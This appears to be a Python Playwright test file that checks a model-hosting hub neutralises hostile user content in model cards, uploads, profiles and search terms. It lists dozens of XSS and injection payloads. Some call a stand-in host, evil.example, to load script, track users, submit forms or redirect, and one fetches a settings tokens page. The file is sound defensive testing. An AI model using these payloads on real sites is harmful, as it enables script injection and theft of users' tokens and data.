"""What users write never runs, never leaves, never even makes the browser complain.

Chromium is the judge: any dialog, any request to another origin, any violation of the policy of
contents fails the test (`opened` in conftest.py).
"""

import re

import pytest
from playwright.sync_api import expect

pytestmark = pytest.mark.browser

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/track.png>",
    "![track](https://evil.example/track.png)",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
    ),
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example>",
    "<a href=javascript:alert(1)>go</a>",
    "[go](javascript:alert(1))",
    "[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[go](vbscript:alert(1))",
    "<a href='&#106;avascript:alert(1)'>go</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><button>send</button></form>",
    "<style>@import '//evil.example/x.css';body{background:url(//evil.example/x)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<video src=//evil.example/v poster=//evil.example/p onerror=alert(1)></video>",
    "<p hx-get=/settings/tokens hx-trigger=load data-hx-get=/settings/tokens>x</p>",
    "<p hx-on::load=alert(1) hx-on:click=alert(1)>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<x id=htmx name=trustedTypes><form id=document><input name=body></form>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "{{ 7*7 }} ${7*7} <%= 7*7 %> {% raw %}",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
)
NASTY_NAME = "<img src=x onerror=alert(1)> & 'q' \"d\".md"
QUIET_MILLISECONDS = 250


@pytest.fixture(scope="module")
def hostile(village):
    """A model whose every text is an attack; the addresses that show them."""
    with village.client() as client:
        model = attack(village, client)
        yield model
        client.post("/settings/profile", data={"fullname": "Ada Lovelace", "bio": ""})


def attack(village, client):
    """Fill a model and a profile with attacks."""
    send = village.send
    model = send(client, "/new", owner="ada", name="hostile", licence="", visibility="public")
    card = '---\nlicense: mit\ntags:\n- "<script>alert(1)</script>"\nlanguage: "<b>x"\n'
    card += 'base_model: "javascript:alert(1)//x/y"\ndatasets:\n- "../../settings"\n---\n'
    card += "\n\n".join(PAYLOADS)
    title = PAYLOADS[0] + PAYLOADS[2]
    card_file = [("files", ("README.md", card.encode()))]  # the editor refuses such metadata
    send(client, f"{model}/upload/main", files=card_file, folder="", way="commit", title=title,
         description="\n".join(PAYLOADS))  # fmt: skip
    lines = "\n".join(PAYLOADS)
    cells = "a,b\n" + "\n".join(f'"{each.replace(chr(34), chr(39))}",1' for each in PAYLOADS)
    files = [
        ("files", ("page.html", lines.encode())),
        ("files", ("code.py", lines.encode())),
        ("files", ("cells.csv", cells.encode())),
        ("files", ("more.md", lines.encode())),
        ("files", ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")),
        ("files", ("picture.png", b"<script>alert(1)</script>")),
        *(("files", (f"p{n}.md", each.encode())) for n, each in enumerate(PAYLOADS)),
    ]
    send(client, f"{model}/upload/main", files=files, folder="", way="commit", title=title)
    send(client, f"{model}/edit/main/code.py", text=lines[::-1], way="propose", title=title)
    client.post("/settings/profile", data={"fullname": title[:90], "bio": lines[:900]})
    return model


def test_no_text_of_a_user_runs_or_calls_home(opened, hostile):
    page = opened()
    for path in (
        hostile,
        f"{hostile}/tree/main",
        *(
            f"{hostile}/blob/main/{name}"
            for name in (
                "README.md", "README.md?plain=1", "page.html", "code.py", "cells.csv",
                "cells.csv?plain=1", "more.md", "drawing.svg", "picture.png",
            )
        ),
        f"{hostile}/commits/main",
        f"{hostile}/commit/main",
        f"{hostile}/discussions",
        f"{hostile}/discussions/1",
        f"{hostile}/edit/main/README.md",
        f"{hostile}/settings",
        "/ada",
        "/models",
        "/",
        "/commons/hub/log",
        "/models?search=%22%3E%3Cscript%3Ealert(1)%3C/script%3E&tag=%3Cimg%20src=x%3E",
        "/login?next=javascript:alert(1)",
        "/%3Cscript%3Ealert(1)%3C/script%3E",
    ):  # fmt: skip
        page.goto(path)
        page.wait_for_timeout(QUIET_MILLISECONDS)
        marks = page.locator("main script, main iframe, main object, main [onerror], main [onload]")
        assert marks.count() == 0, path


def test_no_single_payload_runs_or_calls_home_however_it_is_shown(opened, hostile):
    page = opened()
    for number in range(len(PAYLOADS)):
        for plain in ("", "?plain=1"):
            page.goto(f"{hostile}/blob/main/p{number}.md{plain}")
            page.wait_for_timeout(QUIET_MILLISECONDS / 2)


def test_no_link_of_a_card_runs_anything(opened, hostile):
    page = opened()
    page.goto(hostile)
    addresses = page.locator("article a").evaluate_all("all => all.map(each => each.href)")
    assert addresses
    assert [each for each in addresses if not re.match(r"https?:|mailto:|$", each)] == []


def test_a_file_opened_by_itself_is_harmless(opened, hostile):
    page = opened()
    for path in ("raw/main/page.html", "raw/main/drawing.svg", "resolve/main/README.md"):
        answer = page.request.get(f"{hostile}/{path}")
        assert answer.ok
        assert "sandbox" in answer.headers["content-security-policy"]
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "html" not in answer.headers["content-type"]
        if "attachment" not in answer.headers.get("content-disposition", ""):
            page.goto(f"{hostile}/{path}")
            page.wait_for_timeout(QUIET_MILLISECONDS)


def test_a_preview_is_as_harmless_as_the_card(opened):
    page = opened()
    page.goto("/ada/tiny/edit/main/README.md")
    page.locator("summary", has_text="Preview").click()
    page.get_by_label("Text of README.md").fill("# The start\n\n" + "\n\n".join(PAYLOADS))
    expect(page.locator("#preview").get_by_role("heading", name="The start")).to_be_visible()
    page.wait_for_timeout(QUIET_MILLISECONDS)
    assert page.locator("#preview").locator("script, iframe, [onerror], [onload]").count() == 0


def test_nobody_puts_the_hub_into_a_frame(opened, village):
    page = opened(signed_in=False)
    for path in ("/", "/login", "/settings/tokens"):
        answer = page.request.get(path)
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
        assert answer.headers["x-frame-options"] == "DENY"
